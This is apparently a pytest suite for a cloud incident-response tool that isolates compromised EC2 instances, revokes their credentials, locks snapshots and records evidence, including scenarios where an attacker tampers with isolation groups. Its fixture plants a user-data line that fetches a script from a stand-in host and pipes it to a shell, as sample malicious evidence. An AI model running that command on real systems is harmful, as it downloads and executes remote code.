"""A compromised instance: isolated on every interface, its evidence held, and everybody else left in peace."""

import hashlib
import json
import re

import pytest
from lab import seed, seed_instances
from lab.reachability import Packet, may_pass
from lab.stage import INSTANCE_FUNCTION
from lab_assertions import refused

CASE = re.compile(r"IR-\d{8}-[0-9a-f]{8}")
DEPENDENT_CALLS = 3
STOLEN_FROM = "i-0a1b2c3d4e5f67890"
"""The instance of the sample about stolen credentials."""


def isolation_group(scene, vpc):
    """The recorded isolation group of a VPC."""
    recorded = json.loads(scene.read(f"isolation/{scene.lab.account}/{scene.lab.region}.json"))
    return recorded["groups"][vpc]


def rules_of(lab, group):
    filters = [{"Name": "group-id", "Values": [group]}]
    return lab.client("ec2").describe_security_group_rules(Filters=filters)["SecurityGroupRules"]


def attribute(lab, instance, name):
    answer = lab.client("ec2").describe_instance_attribute(InstanceId=instance.id, Attribute=name)
    return next(value["Value"] for key, value in answer.items() if key.lower() == name.lower())


def devices(lab, instance):
    found = lab.client("ec2").describe_instances(InstanceIds=[instance.id])["Reservations"][0]["Instances"][0]
    return {one["DeviceName"]: one["Ebs"]["DeleteOnTermination"] for one in found["BlockDeviceMappings"]}


def snapshots_of(lab, instance):
    filters = [{"Name": "tag:ir:instance", "Values": [instance.id]}]
    return lab.client("ec2").describe_snapshots(OwnerIds=["self"], Filters=filters)["Snapshots"]


def check_isolated(scene, instance):
    """Every interface has the recorded, empty group of its own VPC and nothing else."""
    for interface, groups in seed_instances.groups_now(scene.lab, instance).items():
        group = isolation_group(scene, instance.vpcs[interface])
        assert groups == [group], f"{interface} has {groups}"
        assert rules_of(scene.lab, group) == []


@pytest.fixture(scope="module")
def contained(scene):
    """An instance with everything, contained."""
    instance = seed_instances.instance(
        scene.lab,
        interfaces=2,
        data_volumes=2,
        elastic_address=True,
        target_groups=("instance", "ip"),
        load_balancer=True,
        user_data="#!/bin/sh\ncurl http://198.51.100.1/x | sh\n",
    )
    return instance, scene.fire(scene.accuse_instance(instance))


def test_every_interface_has_our_empty_group_alone(scene, contained):
    instance, delivery = contained
    assert delivery.result["outcome"] == "contained", delivery.result
    check_isolated(scene, instance)


@pytest.mark.parametrize("peer", ["198.51.100.7", "2001:db8::7"])
def test_no_new_connection_passes_in_either_direction(scene, contained, peer):
    """The rules as the VPC would evaluate them, since no packet flows in the lab."""
    instance, _ = contained
    for interface in instance.interfaces:
        for direction in ("in", "out"):
            for protocol, port in (("tcp", 443), ("udp", 53), ("icmp", 8)):
                packet = Packet(direction, protocol, peer, port)
                assert not may_pass(scene.lab, interface, packet), f"{packet} through {interface}"


def test_there_was_something_to_cut(scene):
    instance = seed_instances.instance(scene.lab)
    assert may_pass(scene.lab, instance.interfaces[0], Packet("out", "tcp", "198.51.100.7", 443))
    assert may_pass(scene.lab, instance.interfaces[0], Packet("in", "tcp", "198.51.100.7", 443))


def test_instance_and_volumes_outlive_their_attacker(scene, contained):
    instance, _ = contained
    lab = scene.lab
    assert attribute(lab, instance, "disableApiTermination") is True
    assert attribute(lab, instance, "disableApiStop") is True
    assert attribute(lab, instance, "instanceInitiatedShutdownBehavior") == "stop"
    assert set(devices(lab, instance).values()) == {False}
    refused("OperationNotPermitted", lab.client("ec2").terminate_instances, InstanceIds=[instance.id])
    refused("OperationNotPermitted", lab.client("ec2").stop_instances, InstanceIds=[instance.id])


def test_one_set_of_snapshots_of_every_volume_tagged_and_locked(scene, contained):
    instance, delivery = contained
    snapshots = snapshots_of(scene.lab, instance)
    assert {s["VolumeId"] for s in snapshots} == set(instance.volumes.values()), "the root volume is one of them"
    assert len(snapshots) == len(instance.volumes)
    for snapshot in snapshots:
        tags = {tag["Key"]: tag["Value"] for tag in snapshot["Tags"]}
        assert tags["ir:incident"] == delivery.result["case"]
        assert tags["ir:source"] == delivery.case.open["findings"][0][:256]
        assert tags["ir:collected-by"].startswith("tourniquet ")
    ids = [s["SnapshotId"] for s in snapshots]
    locked = scene.lab.client("ec2").describe_locked_snapshots(SnapshotIds=ids)["Snapshots"]
    assert {s["SnapshotId"] for s in locked} == set(ids)
    assert {s["LockState"] for s in locked} <= {"governance", "pending-compliance", "governance-cooloff"}
    refused("OperationNotPermitted", scene.lab.client("ec2").delete_snapshot, SnapshotId=ids[0])


def test_credentials_of_this_instance_are_refused_old_and_new_and_of_no_other(scene):
    lab = scene.lab
    role = seed.role(lab, profile_path="/")
    instance = seed_instances.instance(lab, of_role=role)
    neighbour = seed_instances.instance(lab, of_role=role)
    stolen = seed_instances.instance_credentials(lab, instance)
    theirs = seed_instances.instance_credentials(lab, neighbour)
    lab.client("s3", stolen).list_buckets()
    assert scene.fire(scene.accuse_instance(instance)).result["outcome"] == "contained"
    refused("AccessDenied", lab.client("s3", stolen).list_buckets)
    refused("AccessDenied", lab.client("s3", seed_instances.instance_credentials(lab, instance)).list_buckets)
    lab.client("s3", theirs).list_buckets()
    lab.client("s3", seed_instances.instance_credentials(lab, neighbour)).list_buckets()


def test_it_serves_nobody_any_more(scene, contained):
    instance, _ = contained
    for arn in instance.target_groups.values():
        left = scene.lab.client("elbv2").describe_target_health(TargetGroupArn=arn)["TargetHealthDescriptions"]
        assert [t for t in left if t["TargetHealth"]["State"] != "draining"] == [], arn
    (balancer,) = scene.lab.client("elb").describe_load_balancers(LoadBalancerNames=[instance.load_balancer])[
        "LoadBalancerDescriptions"
    ]
    assert balancer["Instances"] == []


def test_elastic_address_is_taken_off_and_still_ours(scene, contained):
    instance, _ = contained
    (address,) = scene.lab.client("ec2").describe_addresses(AllocationIds=[instance.allocation])["Addresses"]
    assert "AssociationId" not in address or not address["AssociationId"]


def test_evidence_is_in_the_case_with_its_hashes(scene, contained):
    _, delivery = contained
    case = delivery.case
    case.check_chain()
    collected = case.entry("collected")
    pieces = {piece["name"]: piece for piece in collected["objects"]}
    assert {
        "console-output.txt",
        "console-screenshot.jpg",
        "user-data",
        "metadata-options.json",
        "describe-instances.xml",
        "describe-network-interfaces.xml",
    } <= set(pieces)
    for piece in pieces.values():
        stored = scene.read(piece["key"])
        assert hashlib.sha256(stored).hexdigest() == piece["sha256"] and len(stored) == piece["bytes"]
    assert scene.read(pieces["user-data"]["key"]).startswith(b"#!/bin/sh\ncurl")
    assert b"<instanceId>" in scene.read(pieces["describe-instances.xml"]["key"])


def test_original_state_is_whole(contained):
    instance, delivery = contained
    original = delivery.case.original
    assert {i["id"]: i["groups"] for i in original["interfaces"]} == {
        interface: sorted(groups) for interface, groups in instance.groups.items()
    }
    assert {v["device"]: v["id"] for v in original["volumes"]} == instance.volumes
    assert all(v["goes_with_instance"] for v in original["volumes"])
    assert original["protected_from_termination"] is False and original["on_shutdown"] in ("stop", "terminate")
    assert original["profile"]["arn"] == instance.profile and original["profile"]["role"]["name"] == instance.role.name
    (elastic,) = [a for i in original["interfaces"] for a in i["addresses"] if a["allocation"]]
    assert (elastic["allocation"], elastic["association"]) == (instance.allocation, instance.association)
    assert original["classic_balancers"] == [instance.load_balancer]


def test_message_says_what_isolation_does_not_cover(contained):
    _, delivery = contained
    text = delivery.message["message"]
    assert "not guaranteed to be cut" in text and "NAT gateways" in text
    assert "DNS through the VPC's resolver" in text
    assert "EC2 accepted the isolation" in text
    assert "modify-network-interface-attribute" in text.split("HOW TO UNDO")[1]


def test_three_dependent_calls_to_isolation(scene):
    """Warm, same account, one interface, isolation group present."""
    net = seed_instances.network(scene.lab)
    scene.fire(scene.accuse_instance(seed_instances.instance(scene.lab, in_network=net)))
    warm = scene.fire(scene.accuse_instance(seed_instances.instance(scene.lab, in_network=net)))
    assert not warm.attempts[0]["cold"]
    assert warm.result["cut_off_calls"] == DEPENDENT_CALLS


def test_first_use_of_a_vpc_costs_its_own_calls_and_the_answer_says_so(scene):
    delivery = scene.fire(scene.accuse_instance(seed_instances.instance(scene.lab)))
    assert delivery.result["cut_off_calls"] > DEPENDENT_CALLS
    assert ("prepare_isolation_group", "done") in {(s, status) for (s, _), status in delivery.steps().items()}


def test_profile_that_the_finding_does_not_name_costs_one_call(scene):
    net = seed_instances.network(scene.lab)
    scene.fire(scene.accuse_instance(seed_instances.instance(scene.lab, in_network=net)))
    instance = seed_instances.instance(scene.lab, in_network=net)
    event = scene.accuse_instance(instance)
    event["detail"]["resource"]["instanceDetails"].pop("iamInstanceProfile")
    delivery = scene.fire(event)
    assert delivery.result["cut_off_calls"] == DEPENDENT_CALLS + 1
    refused("AccessDenied", scene.lab.client("s3", seed_instances.instance_credentials(scene.lab, instance)).list_buckets)


# --- the shapes an instance comes in -----------------------------------------------------------------------


def test_interfaces_of_two_vpcs_each_get_a_group_of_their_own(scene):
    instance = seed_instances.instance(scene.lab, interfaces=2, other_vpc=True)
    assert len(set(instance.vpcs.values())) == 2
    assert scene.fire(scene.accuse_instance(instance)).result["outcome"] == "contained"
    check_isolated(scene, instance)
    assert len({isolation_group(scene, vpc) for vpc in instance.vpcs.values()}) == 2


def test_ipv6_only_instance_is_isolated_in_both_families(scene):
    """A new group in a VPC with IPv6 lets everything out through ::/0 too."""
    instance = seed_instances.instance(scene.lab, ipv6_only=True)
    delivery = scene.fire(scene.accuse_instance(instance, "c2-instance-ipv6"))
    assert delivery.result["outcome"] == "contained"
    check_isolated(scene, instance)
    assert "IPv6" in " ".join(delivery.result["residual_risk"])


@pytest.mark.parametrize("event", ["crypto-mining-instance", "instance-without-profile"])
def test_instance_without_a_profile_stays_isolated(scene, event):
    instance = seed_instances.instance(scene.lab, with_profile=False)
    delivery = scene.fire(scene.accuse_instance(instance, event))
    assert delivery.result["outcome"] == "contained"
    check_isolated(scene, instance)
    assert "deny_session" not in {step for step, _ in delivery.steps()}


def test_profile_with_a_path_is_found_by_its_name(scene):
    instance = seed_instances.instance(scene.lab, profile_path="/apps/web/")
    delivery = scene.fire(scene.accuse_instance(instance, "profile-with-a-path"))
    assert delivery.result["outcome"] == "contained"
    refused("AccessDenied", scene.lab.client("s3", seed_instances.instance_credentials(scene.lab, instance)).list_buckets)


def test_auto_scaling_at_its_minimum_keeps_the_instance_on_standby(scene):
    instance = seed_instances.instance(scene.lab, auto_scaling=True, min_size=1)
    delivery = scene.fire(scene.accuse_instance(instance))
    assert delivery.result["outcome"] == "contained", delivery.result
    (place,) = scene.lab.client("autoscaling").describe_auto_scaling_instances(InstanceIds=[instance.id])[
        "AutoScalingInstances"
    ]
    assert place["LifecycleState"] == "Standby" and place["ProtectedFromScaleIn"] is True
    (group,) = scene.lab.client("autoscaling").describe_auto_scaling_groups(
        AutoScalingGroupNames=[instance.auto_scaling_group]
    )["AutoScalingGroups"]
    assert group["DesiredCapacity"] >= group["MinSize"] == 1


def test_spot_instance_is_isolated_and_what_cannot_be_protected_is_named(scene):
    instance = seed_instances.instance(scene.lab, spot=True)
    delivery = scene.fire(scene.accuse_instance(instance))
    assert delivery.result["outcome"] == "contained"
    check_isolated(scene, instance)
    assert not {step for step, _ in delivery.steps()} & {"protect_from_termination", "protect_from_stop", "stop_on_shutdown"}
    assert any("Spot" in risk for risk in delivery.result["residual_risk"])


def test_terminated_instance_is_for_a_person(scene):
    instance = seed_instances.instance(scene.lab)
    event = scene.accuse_instance(instance)
    scene.lab.client("ec2").terminate_instances(InstanceIds=[instance.id])
    delivery = scene.fire(event)
    assert (delivery.result["outcome"], delivery.result["reason"]) == ("cannot_contain", "terminated")
    assert delivery.changes() == []


def test_instance_that_is_not_there_is_for_a_person(scene):
    instance = seed_instances.instance(scene.lab)
    event = json.loads(json.dumps(scene.accuse_instance(instance)).replace(instance.id, seed.instance_id()))
    delivery = scene.fire(event)
    assert (delivery.result["outcome"], delivery.result["reason"]) == ("cannot_contain", "no_such_instance")
    assert delivery.changes() == []


def test_stopped_instance_will_start_isolated(scene):
    instance = seed_instances.instance(scene.lab, state="stopped")
    assert scene.fire(scene.accuse_instance(instance)).result["outcome"] == "contained"
    check_isolated(scene, instance)


def test_instance_isolated_by_hand_before_is_not_released_by_undoing_the_case(scene):
    net = seed_instances.network(scene.lab)
    scene.fire(scene.accuse_instance(seed_instances.instance(scene.lab, in_network=net)))
    instance = seed_instances.instance(scene.lab, in_network=net)
    group = isolation_group(scene, net.vpc)
    scene.lab.client("ec2").modify_network_interface_attribute(
        NetworkInterfaceId=instance.interfaces[0], Groups=[group]
    )
    delivery = scene.fire(scene.accuse_instance(instance))
    assert delivery.result["outcome"] == "contained"
    assert delivery.steps()["isolate_interface", f"{instance.interfaces[0]} by {group}"] == "already"
    assert not [line for line in delivery.case.entry("acted")["undo"] if "--groups" in line]


def test_node_of_a_cluster_is_proposed(scene):
    instance = seed_instances.instance(scene.lab, eks_cluster="prod")
    delivery = scene.fire(scene.accuse_instance(instance))
    assert delivery.result["outcome"] == "proposed" and "every pod" in delivery.result["reason"]
    assert delivery.changes() == []
    assert seed_instances.groups_now(scene.lab, instance) == instance.groups


# --- an attacker who knows how isolation works -----------------------------------------------------------


def test_group_squatted_by_name_is_not_used(scene):
    """The attacker made a group of our name with our tag, and a way in."""
    instance = seed_instances.instance(scene.lab)
    ec2 = scene.lab.client("ec2")
    squatted = ec2.create_security_group(
        GroupName=f"tourniquet-isolation-{instance.vpc}",
        Description="Tourniquet",
        VpcId=instance.vpc,
        TagSpecifications=[
            {"ResourceType": "security-group", "Tags": [{"Key": "ir:isolation", "Value": instance.vpc}]}
        ],
    )["GroupId"]
    permission = {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}
    ec2.authorize_security_group_ingress(GroupId=squatted, IpPermissions=[permission])
    assert scene.fire(scene.accuse_instance(instance)).result["outcome"] == "contained"
    assert isolation_group(scene, instance.vpc) != squatted
    check_isolated(scene, instance)


@pytest.mark.parametrize("squatted", [False, True], ids=["name_free", "name_taken"])
@pytest.mark.parametrize(
    ("operation", "kind"),
    [
        ("s3:GetObject", "garbage"),
        ("s3:GetObject", "access_denied"),
        ("s3:GetObject", "internal_error"),
        ("s3:PutObject", "access_denied"),
        ("s3:PutObject", "internal_error"),
    ],
)
def test_record_of_groups_that_is_out_of_reach_does_not_delay_the_isolation(scene, operation, kind, squatted):
    """In the first delivery: a case waits for no bookkeeping, and says that it could not be done."""
    instance = seed_instances.instance(scene.lab, interfaces=2)
    if squatted:
        scene.lab.client("ec2").create_security_group(
            GroupName=f"tourniquet-isolation-{instance.vpc}", Description="of somebody else", VpcId=instance.vpc
        )
    function = scene.copy(INSTANCE_FUNCTION)
    scene.lab.fault(function, at_call=1, kind=kind, action=operation, resource="*isolation/*", scope="event")
    delivery = scene.invoke(scene.accuse_instance(instance), function)
    scene.lab.clear_faults()
    assert len(delivery.attempts) == 1 and delivery.result["outcome"] == "contained", delivery.result
    isolated = seed_instances.groups_now(scene.lab, instance)
    (group,) = {one for groups in isolated.values() for one in groups}
    assert len(isolated) == 2 and all(groups == [group] for groups in isolated.values())
    assert rules_of(scene.lab, group) == []
    assert f"{group} of {instance.vpc} isolates, and could not be recorded" in " ".join(delivery.message["message"].split())
    later = seed_instances.instance(scene.lab, in_network=instance.network)
    assert scene.fire(scene.accuse_instance(later)).result["outcome"] == "contained"
    check_isolated(scene, later)


def test_group_edited_since_is_cleaned_before_it_is_trusted_again(scene):
    net = seed_instances.network(scene.lab, ipv6=True)
    scene.fire(scene.accuse_instance(seed_instances.instance(scene.lab, in_network=net)))
    group, ec2 = isolation_group(scene, net.vpc), scene.lab.client("ec2")
    back_doors = [
        {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "198.51.100.1/32"}]},
        {"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "Ipv6Ranges": [{"CidrIpv6": "::/0"}]},
        {"IpProtocol": "tcp", "FromPort": 1, "ToPort": 9, "UserIdGroupPairs": [{"GroupId": group}]},
    ]
    ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=back_doors)
    ec2.authorize_security_group_egress(GroupId=group, IpPermissions=[{"IpProtocol": "-1", "Ipv6Ranges": [{"CidrIpv6": "::/0"}]}])
    instance = seed_instances.instance(scene.lab, in_network=net)
    assert scene.fire(scene.accuse_instance(instance)).result["outcome"] == "contained"
    assert isolation_group(scene, net.vpc) == group
    check_isolated(scene, instance)


def test_group_edited_after_isolation_is_found_by_the_next_delivery(scene):
    instance = seed_instances.instance(scene.lab)
    event = scene.accuse_instance(instance)
    scene.fire(event)
    group = isolation_group(scene, instance.vpc)
    scene.lab.client("ec2").authorize_security_group_egress(
        GroupId=group, IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
    )
    again = scene.fire(event)
    assert again.result["outcome"] == "contained" and not again.result.get("repeat")
    assert any("somebody undid this containment" in risk for risk in again.result["residual_risk"])
    check_isolated(scene, instance)


def test_interface_attached_after_isolation_is_isolated_by_the_next_delivery(scene):
    instance = seed_instances.instance(scene.lab)
    event = scene.accuse_instance(instance)
    scene.fire(event)
    ec2 = scene.lab.client("ec2")
    made = ec2.create_network_interface(SubnetId=instance.subnet, Groups=[instance.network.group])["NetworkInterface"]
    ec2.attach_network_interface(
        NetworkInterfaceId=made["NetworkInterfaceId"], InstanceId=instance.id, DeviceIndex=1
    )
    assert scene.fire(event).result["outcome"] == "contained"
    check_isolated(scene, seed_instances.look_at(scene.lab, instance.id))


def test_same_finding_again_takes_no_second_set(scene):
    instance = seed_instances.instance(scene.lab, data_volumes=1)
    event = scene.accuse_instance(instance)
    first, again = scene.fire(event), scene.fire(event)
    assert again.result["case"] == first.result["case"] and again.result["repeat"] is True
    assert len(snapshots_of(scene.lab, instance)) == 2


def test_another_finding_joins_the_case_and_takes_no_second_set(scene):
    instance = seed_instances.instance(scene.lab, data_volumes=1, elastic_address=True)
    first, other = scene.fire(scene.accuse_instance(instance)), scene.fire(scene.accuse_instance(instance))
    assert other.result["case"] == first.result["case"]
    assert (other.result["outcome"], other.result.get("repeat")) == ("contained", True)
    assert len(snapshots_of(scene.lab, instance)) == 2
    assert other.changes() == [] and other.messages() == []
    assert len(other.case.open["findings"]) == 2


def test_one_of_three_interfaces_fails_and_the_others_stay_isolated(scene):
    instance = seed_instances.instance(scene.lab, interfaces=3)
    stubborn = instance.interfaces[1]
    function = scene.copy("contain-instance")
    scene.lab.fault(
        function, at_call=1, kind="access_denied", scope="event", action="ec2:ModifyNetworkInterfaceAttribute",
        resource=f"*{stubborn}*",
    )  # fmt: skip
    delivery = scene.invoke(scene.accuse_instance(instance), function)
    scene.lab.clear_faults()
    assert delivery.result["outcome"] == "partial"
    now = seed_instances.groups_now(scene.lab, instance)
    group = isolation_group(scene, instance.vpc)
    assert {i: groups == [group] for i, groups in now.items()} == {
        i: i != stubborn for i in instance.interfaces
    }, "nothing is reverted because something else failed"
    assert now[stubborn] == instance.groups[stubborn]
    assert delivery.message["message"].startswith("NOT FULLY CONTAINED")


def test_stolen_instance_credentials_are_two_cases_that_name_each_other(scene):
    lab = scene.lab
    role = seed.role(lab, profile_path="/")
    instance = seed_instances.instance(lab, of_role=role)
    stolen = seed_instances.instance_credentials(lab, instance)
    words = {STOLEN_FROM: instance.id, "AROAAPPSERVERQEXAMPLE": role.id, "app-server": role.name}
    event = scene.accuse_instance(instance, "instance-credentials-exfiltrated", words)
    by_identity = scene.invoke(event, "contain-identity")
    by_instance = scene.invoke(event, "contain-instance")
    assert by_identity.result["outcome"] == by_instance.result["outcome"] == "contained"
    assert by_identity.result["case"] != by_instance.result["case"]
    for told in by_instance.messages():
        assert {by_identity.result["case"], by_instance.result["case"]} == set(CASE.findall(told["message"]))
    assert len(by_identity.messages()) == 2, "one message about each"
    refused("AccessDenied", lab.client("s3", stolen).list_buckets)
    check_isolated(scene, instance)


def test_rules_take_stolen_instance_credentials_to_both_functions(scene):
    instance = seed_instances.instance(scene.lab)
    before = scene.lab.marks()["invocations"]
    event = scene.accuse_instance(instance, "instance-credentials-exfiltrated", {STOLEN_FROM: instance.id})
    scene.lab.put_event(event)
    both = {"contain-identity", "contain-instance"}
    assert scene.lab.wait_for(lambda: both <= {i["function"] for i in scene.lab.invocations(before)}, 30)
